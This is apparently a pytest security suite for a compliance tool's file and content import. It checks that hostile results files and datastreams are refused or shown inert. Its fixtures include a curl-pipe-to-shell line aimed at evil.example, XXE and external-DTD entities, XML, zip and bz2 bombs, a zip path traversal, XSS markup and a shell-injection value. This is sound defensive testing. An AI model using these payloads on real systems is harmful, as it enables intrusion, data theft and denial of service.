"""Hostile files through `import` and `content import`: escapes and markup shown inert, XML
tricks and bombs refused with one line, limits that hold at the attack's real size, and no
file able to rewrite another host's rule texts."""

from __future__ import annotations

import bz2
import gzip
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import zipfile
from concurrent.futures import ThreadPoolExecutor
from xml.sax.saxutils import escape

import pytest

from core.content import catalog
from tests import oscap_results
from tests.security import documents
from tests.security.conftest import ESC_PAYLOAD, MARKUP_PAYLOAD, assert_inert, integrity, measured
from tests.security.documents import RULE

CURL = "curl -fsSL http://evil.example/x | sh"

# A CLI process that refused an attack without holding it: its imports and one parse, well below
# what the attacks expand to (500 MiB and more); about 200 MiB measured in a full suite run.
BOUNDED = 300


def count(data_dir, table: str) -> int:
    with sqlite3.connect(data_dir / "compliance.db") as db:
        return db.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]


def test_escapes_and_markup_in_a_results_file_are_shown_inert(cli, tmp_path):
    name = f"evil-\u009b2J{MARKUP_PAYLOAD.replace('/', '_')}.xml"  # the file's own name, too
    path = tmp_path / name
    path.write_text(documents.results(
        f"xccdf_t_\u009b31m{MARKUP_PAYLOAD}", target="air01\u009b2J", profile=f"p_{MARKUP_PAYLOAD}\u202e",
        rules={f"{RULE}x\u009b2J": (f"Title \u009b31m{MARKUP_PAYLOAD}", f"echo \u009b2J{MARKUP_PAYLOAD}")}))
    done = cli("import", str(path), "--host", "air01", "--create-host", "--yes")
    assert done.returncode == 0, done.stderr
    scan_id = cli.ok("scans", "list", "--json").json()[0]["id"]
    outputs = [done, cli.ok("scans", "list"), cli.ok("results", scan_id[:8]),
               cli.ok("results", scan_id[:8], "--csv"), cli.ok("export", "scans", "--format", "csv"),
               cli.ok("export", "results", scan_id[:8], "--format", "json")]
    for result in outputs:
        assert_inert(result.stdout + result.stderr, "CLI output")
    assert "\\x9b31m" in outputs[2].stdout and MARKUP_PAYLOAD in outputs[2].stdout
    report = tmp_path / "r.html"
    cli.ok("report", scan_id[:8], "-o", str(report))
    assert_inert(report.read_text(), "report")

    broken = tmp_path / f"broken-{ESC_PAYLOAD}.xml"  # an error names the file: inert too
    broken.write_text("<not-xml")
    refused = cli("import", str(broken), "--host", "air01")
    assert refused.returncode == 1 and refused.stderr.count("\n") == 1
    assert_inert(refused.stderr, "import error")
    assert "\\x1b]0;pwned-title" in refused.stderr


@pytest.mark.parametrize("kind", ["xxe", "external_dtd", "xinclude", "billion_laughs", "truncated",
                                  "wrong_namespace", "gzip_truncated", "bz2_garbage"])
def test_xml_tricks_in_a_file_get_one_line_and_store_nothing(cli, tmp_path, data_dir, kind):
    canary = tmp_path / "canary.txt"
    canary.write_text("CANARY-FROM-THE-JUMP-HOST")
    text = {
        "xxe": documents.results(doctype=f'<!DOCTYPE Benchmark [<!ENTITY x SYSTEM "file://{canary}">]>\n',
                                 target="&x;"),
        "external_dtd": documents.results(doctype='<!DOCTYPE Benchmark SYSTEM "http://127.0.0.1:9/x.dtd">\n'),
        "xinclude": documents.results(inside=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                                             f'href="file://{canary}" parse="text"/>'),
        "billion_laughs": documents.results(
            doctype="<!DOCTYPE Benchmark [<!ENTITY a \"aaaaaaaaaa\">"
                    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
                    + "]>\n", target="&j;"),
        "truncated": documents.results()[:300],
        "wrong_namespace": documents.results().replace(documents.XCCDF, "urn:evil"),
    }.get(kind)
    path = tmp_path / f"{kind}.xml"
    if kind == "gzip_truncated":
        path = tmp_path / "t.xml.gz"
        path.write_bytes(gzip.compress(documents.results().encode())[:60])
    elif kind == "bz2_garbage":
        path = tmp_path / "g.xml.bz2"
        path.write_bytes(b"BZh9" + bz2.compress(b"x" * 1000)[4:20] + b"\0" * 50)
    else:
        path.write_text(text)
    result = cli("import", str(path), "--host", "fresh", "--create-host", "--yes")
    if kind in ("xxe", "external_dtd", "xinclude", "billion_laughs"):  # imported; nothing resolved
        assert result.returncode == 0, result.stderr
        for file in data_dir.rglob("*"):
            if file.is_file() and file.suffix != ".gz":
                assert b"CANARY-FROM-THE-JUMP-HOST" not in file.read_bytes(), file
                assert b"aaaaaaaaaaaaaaaaaaaa" not in file.read_bytes(), file  # no entity expanded
        (scan,) = cli.ok("scans", "list", "--json").json()
        assert scan["imported"]["target"] in ("air01", "&x;", "&j;", None), scan["imported"]  # as written
        return
    assert result.returncode == 1 and result.stderr.count("\n") == 1, result.stderr
    assert result.stderr.startswith("error: "), result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert count(data_dir, "scans") == 0 and "fresh" not in cli.ok("hosts", "list").stdout
    assert not (data_dir / "evidence").exists() or not any((data_dir / "evidence").iterdir())


def test_limits_hold_at_the_attacks_real_size(cli, tmp_path, data_dir):
    """The issue's cases: a ~100 KB gzip holding one rule-result with 26M children (it took
    3.3 GB), and more rule results than any benchmark has (14.5M made a 1 GB database)."""
    bomb = documents.gzip_bomb(tmp_path / "children.xml.gz", 26_000_000)
    assert bomb.stat().st_size < 200_000
    refused, peak = measured(cli, "import", str(bomb), "--host", "fresh", "--create-host")
    assert refused.returncode == 1 and "holds more than 10,000 elements" in refused.stderr, refused.stderr
    assert peak < BOUNDED, f"{peak:.0f} MiB to refuse a children bomb"

    many = documents.many_results(tmp_path / "many.xml.gz", 150_000)
    refused, peak = measured(cli, "import", str(many), "--host", "fresh", "--create-host")
    assert refused.returncode == 1 and "more rule results than any benchmark" in refused.stderr
    assert peak < BOUNDED, f"{peak:.0f} MiB to refuse 150,000 rule results"

    small = {"COMPLIANCE_TUI_LIMITS": "xml_bytes=1000000,test_results=2,rules=5"}
    padded = tmp_path / "padded.xml"
    padded.write_text(documents.results() + "<!--" + " " * 1_100_000 + "-->")
    assert "bytes of XML (decompressed)" in cli("import", str(padded), "--host", "fresh", "--create-host",
                                                 env=small).stderr
    three = tmp_path / "three.xml"
    one = documents.results()
    body = one[one.index("<TestResult"):one.index("</Benchmark>")]
    three.write_text(one.replace("</Benchmark>", body.replace('_x"', '_y"') + body.replace('_x"', '_z"')
                                 + "</Benchmark>"))
    assert "more than 2 TestResults" in cli("import", str(three), "--host", "fresh", "--create-host",
                                            env=small).stderr
    rules = tmp_path / "rules.xml"
    rules.write_text(documents.results(rules={f"{RULE}r{i}": (f"t{i}", "") for i in range(6)}))
    assert "more than 5 rules" in cli("import", str(rules), "--host", "fresh", "--create-host", env=small).stderr
    assert count(data_dir, "scans") == 0 and count(data_dir, "rule_results") == 0
    assert "fresh" not in cli.ok("hosts", "list").stdout


def test_one_file_cannot_rewrite_another_hosts_rule_texts(cli, tmp_path):
    """Two files claim the same benchmark id and version: each host's report shows its own
    file's texts, both marked as coming from a results file; a file claiming installed content's
    id and version gets that content's texts, never its own."""
    rule = f"{RULE}accounts_tmout"
    evil = tmp_path / "evil.xml"
    evil.write_text(documents.results("xccdf_t_evil", target="victim-a",
                                      rules={rule: ("Planted title", CURL)}))
    honest = tmp_path / "honest.xml"
    honest.write_text(documents.results("xccdf_t_honest", target="victim-b",
                                        rules={rule: ("Set the shell timeout", "echo TMOUT=600 >> /etc/profile")}))
    cli.ok("import", str(evil), "--host", "victim-a", "--create-host")
    cli.ok("import", str(honest), "--host", "victim-b", "--create-host")
    reports = {}
    for scan in cli.ok("scans", "list", "--json").json():
        out = tmp_path / f"{scan['host']}.html"
        cli.ok("report", scan["id"][:8], "-o", str(out))
        reports[scan["host"]] = out.read_text()
        assert "Rule texts from the results file" in reports[scan["host"]]
    assert "curl" not in reports["victim-b"] and "Planted title" not in reports["victim-b"]
    assert "Set the shell timeout" in reports["victim-b"]
    assert "Planted title" in reports["victim-a"]  # its own file's texts, marked as such

    if not oscap_results.datastream("ubuntu2204").is_file():
        pytest.skip("the Ubuntu 22.04 SSG content is not installed")
    installed = catalog.read_datastream(oscap_results.datastream("ubuntu2204"))
    claim = tmp_path / "claim.xml"
    claim.write_text(documents.results("xccdf_t_claim", benchmark=installed.benchmark_id, version=installed.version,
                                       target="victim-c", rules={rule: ("Planted title", CURL)}))
    cli.ok("import", str(claim), "--host", "victim-c", "--create-host")
    scan = next(s for s in cli.ok("scans", "list", "--json").json() if s["host"] == "victim-c")
    out = tmp_path / "c.html"
    cli.ok("report", scan["id"][:8], "-o", str(out))
    text = out.read_text()
    assert "curl" not in text and "Planted title" not in text and "Rule texts from the results file" not in text


def test_six_parallel_imports_for_one_new_host(cli, tmp_path, data_dir):
    """Six processes import for one host that does not exist yet: six files all land; the same
    file six times lands once and five get a one-line 'already imported'."""
    files = []
    for i in range(6):
        path = tmp_path / f"r{i}.xml"
        path.write_text(documents.results(f"xccdf_t_{i}", target="par01", start=f"2025-03-0{i + 1}T10:00:00"))
        files.append(path)

    def run(path, host):
        return subprocess.run([sys.executable, "-m", "tui", "import", str(path), "--host", host, "--create-host"],
                              capture_output=True, text=True, env=cli.env, timeout=120)

    with ThreadPoolExecutor(6) as pool:
        different = list(pool.map(lambda p: run(p, "par01"), files))
    assert [r.returncode for r in different] == [0] * 6, [r.stderr for r in different]
    with ThreadPoolExecutor(6) as pool:
        same = list(pool.map(lambda _: run(files[0], "par02"), range(6)))
    assert sorted(r.returncode for r in same) == [0, 1, 1, 1, 1, 1], [r.stderr for r in same]
    for refused in (r for r in same if r.returncode):
        assert "already imported" in refused.stderr and refused.stderr.count("\n") == 1, refused.stderr
    hosts = [h["name"] for h in cli.ok("hosts", "list", "--json").json()]
    assert hosts.count("par01") == 1 and hosts.count("par02") == 1
    scans = cli.ok("scans", "list", "--json").json()
    assert len([s for s in scans if s["host"] == "par01"]) == 6
    assert len([s for s in scans if s["host"] == "par02"]) == 1
    assert len(list((data_dir / "evidence").iterdir())) == 7, "a failed import left its evidence"
    assert integrity(data_dir) == "ok"


def test_hostile_content_through_content_import(cli, tmp_path, data_dir):
    """Datastreams with escapes and markup in titles, entity tricks, and a zip whose member
    names climb out of the target or claim more than a datastream can be."""
    folder = tmp_path / "src"
    folder.mkdir()
    (folder / "ssg-ubuntu2204-ds.xml").write_text(documents.datastream(
        f"CIS \u009b2J{MARKUP_PAYLOAD}", f"Rule \u009b31m{MARKUP_PAYLOAD}"))
    done = cli("content", "import", str(folder))
    assert done.returncode == 0, done.stderr
    listing = cli.ok("content", "list")
    assert_inert(done.stdout + done.stderr + listing.stdout + listing.stderr, "content output")

    laughs = tmp_path / "laughs"
    laughs.mkdir()
    (laughs / "ssg-debian12-ds.xml").write_text(documents.datastream("t", "r").replace(
        "<Benchmark", "<!DOCTYPE Benchmark [<!ENTITY a \"aaaaaaaaaa\">"
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
        + "]><Benchmark").replace("<title>t</title>", "<title>&j;</title>"))
    refused = cli("content", "import", str(laughs))
    assert refused.returncode == 1 and refused.stderr.count("\n") == 1, refused.stderr

    archive = tmp_path / "evil.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr("../../../../tmp/escaped/ssg-ubuntu2004-ds.xml", documents.datastream("t", "r", "9.9.8"))
    assert cli("content", "import", str(archive)).returncode == 0
    assert not os.path.exists("/tmp/escaped")
    assert (data_dir / "content" / "imported-9.9.8" / "ssg-ubuntu2004-ds.xml").is_file()

    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as bundle:
        with bundle.open("ssg-rhel9-ds.xml", "w", force_zip64=True) as member:
            block = b" " * (1 << 20)
            for _ in range(520):  # 520 MiB of spaces: about 0.5 MiB zipped
                member.write(block)
    refused, peak = measured(cli, "content", "import", str(bomb))
    assert refused.returncode == 1 and "too large to be a datastream" in refused.stderr
    assert peak < BOUNDED  # 520 MiB expanded would be far beyond


XHTML = "http://www.w3.org/1999/xhtml"
LIVE = (f'Hi <h:a xmlns:h="{XHTML}" href="javascript:alert(2)" onclick="alert(3)">x</h:a>'
        f'<h:script xmlns:h="{XHTML}">alert(1)</h:script><h:iframe xmlns:h="{XHTML}" src="http://evil.example/"/>'
        f'<h:img xmlns:h="{XHTML}" src="http://evil.example/t.png" onerror="alert(4)"/>'
        f'<h:p xmlns:h="{XHTML}" style="background:url(http://evil.example/x)">styled</h:p>')


@pytest.mark.skipif(not shutil.which("oscap"), reason="oscap is not installed on this machine")
def test_oscap_report_of_hostile_results_is_sanitised(cli, tmp_path):
    """oscap copies the results' XHTML descriptions into its report: a live <script>, a
    javascript: link, on* handlers, an iframe, a tracking image. The report written is inert."""
    path = tmp_path / "live.xml"
    path.write_text(documents.results(rules={f"{RULE}one": ("t", "")}).replace(
        "<description>A rule.</description>", f"<description>{LIVE}</description>"))
    cli.ok("import", str(path), "--host", "air01", "--create-host")
    scan = cli.ok("scans", "list", "--json").json()[0]
    raw = tmp_path / "raw.html"
    subprocess.run(["oscap", "xccdf", "generate", "report", "--output", str(raw), str(path)], check=True,
                   capture_output=True)
    assert "alert(1)</script>" in raw.read_text()  # what oscap itself makes of the file
    out = tmp_path / "oscap.html"
    cli.ok("report", scan["id"][:8], "--oscap", "-o", str(out))
    report = out.read_text()
    body = report.split("</head>", 1)[1]
    for live in ("<script", "javascript:", "onclick", "onerror", "<iframe", "evil.example", "alert("):
        assert live not in body, live
    assert "Content-Security-Policy" in report and "default-src 'none'" in report
    assert "styled" in body and "Hi " in body  # the text itself stays
    assert stat.filemode(out.stat().st_mode) == "-rw-------"


VALUE = "xccdf_org.ssgproject.content_value_var_banner"


def _datastream_with(version: str, doctype: str = "", title: str = "t", value: str = "x", fix: str = "") -> str:
    """A datastream with a Value and a Rule whose fix substitutes it (as SSG's fixes do)."""
    rule = f"{RULE}banner"
    fix_xml = f'<fix system="urn:xccdf:fix:script:sh">{fix}</fix>' if fix else ""
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<Benchmark xmlns="{documents.XCCDF}" '
            f'id="xccdf_org.ssgproject.content_benchmark_UBUNTU_22-04"><version>{version}</version>'
            f'<Profile id="{documents.L1}"><title>{title}</title><select idref="{rule}" selected="true"/>'
            f'<refine-value idref="{VALUE}" selector="evil"/></Profile>'
            f'<Value id="{VALUE}" type="string"><title>banner</title><value>{value}</value>'
            f'<value selector="evil">{value}</value></Value>'
            f'<Rule id="{rule}" severity="low"><title>Banner</title><description>d</description>{fix_xml}</Rule>'
            "</Benchmark>\n")


def test_22_6_content_import_of_a_hostile_datastream_is_refused_or_inert(cli, tmp_path, data_dir, home):
    """Bombs (bz2 past the XML bound, a billion laughs through parameter entities), entities
    (an external file, an external DTD that a listening server never sees asked for), and a
    fix whose Value is shell: refused with one line each, or imported byte for byte and never
    run; nothing on this machine changes."""
    import bz2
    import socket

    canary, secret = tmp_path / "canary", tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CANARY\n")
    shell = f"$(touch {canary})`touch {canary}`;touch {canary}"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    cases = {
        "xxe": _datastream_with("9.1.1", f'<!DOCTYPE Benchmark [<!ENTITY x SYSTEM "file://{secret}">]>',
                                title="&x;"),
        "external-dtd": _datastream_with("9.1.2", f'<!DOCTYPE Benchmark SYSTEM "http://127.0.0.1:{port}/x.dtd">'),
        "parameter": _datastream_with("9.1.3", "<!DOCTYPE Benchmark [<!ENTITY % p SYSTEM "
                                               f'"http://127.0.0.1:{port}/p.dtd"> %p;]>'),
        "laughs": _datastream_with("9.1.4", "<!DOCTYPE Benchmark [<!ENTITY a \"aaaaaaaaaa\">" + "".join(
            f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>", title="&j;"),
    }
    for name, text in cases.items():
        folder = tmp_path / name
        folder.mkdir()
        (folder / "ssg-ubuntu2204-ds.xml").write_text(text)
        done = cli("content", "import", str(folder))
        said = done.stdout + done.stderr + cli.ok("content", "list").stdout
        if done.returncode == 0:  # imported with the entity left unexpanded: inert
            assert "TOP-SECRET-CANARY" not in said and "imported ssg-ubuntu2204-ds.xml" in done.stdout, name
        else:
            assert done.returncode == 1 and done.stderr.count("\n") == 1, (name, done.stderr)
            assert done.stderr.startswith("error: not imported: ") and "Traceback" not in done.stderr
        assert "TOP-SECRET-CANARY" not in said
    try:
        listener.accept()
        raise AssertionError("the parser asked the network for a DTD")
    except TimeoutError:
        pass
    finally:
        listener.close()

    bombs = tmp_path / "bombs"
    bombs.mkdir()
    head, tail = _datastream_with("9.1.5").split("<version>")
    with bz2.open(bombs / "ssg-rhel8-ds.xml.bz2", "wb") as out:  # ~1 KB holding 80 MiB of XML
        out.write((head + "<!-- ").encode())
        for _ in range(80):
            out.write(b" " * (1 << 20))
        out.write((" --><version>" + tail).encode())
    small = {"COMPLIANCE_TUI_LIMITS": "xml_bytes=67108864"}  # 64 MiB: the bound, proven small
    refused, peak = measured(cli, "content", "import", str(bombs), env=small)
    assert refused.returncode == 1 and "more than 67,108,864 bytes of XML (decompressed)" in refused.stderr
    assert peak < BOUNDED

    values = tmp_path / "values"
    values.mkdir()
    fix = f'echo \'<sub idref="{VALUE}"/>\' > /etc/issue.net'
    hostile = _datastream_with("9.1.6", value=escape(shell), fix=escape(fix).replace(
        escape(f'<sub idref="{VALUE}"/>'), f'<sub idref="{VALUE}"/>'))
    (values / "ssg-ubuntu2204-ds.xml").write_text(hostile)
    done = cli.ok("content", "import", str(values))
    listing = cli.ok("content", "list")
    copied = data_dir / "content" / "imported-9.1.6" / "ssg-ubuntu2204-ds.xml"
    assert copied.read_text() == hostile  # kept as it is: content, for a preview to show and quote
    assert_inert(done.stdout + done.stderr + listing.stdout + listing.stderr, "content import output")
    assert not canary.exists(), "a Value's shell ran on the jump host"
    assert count(data_dir, "scans") == 0 and integrity(data_dir) == "ok"
    stored = [p for p in data_dir.rglob("*") if p.is_file() and b"TOP-SECRET-CANARY" in p.read_bytes()]
    assert stored == [], stored
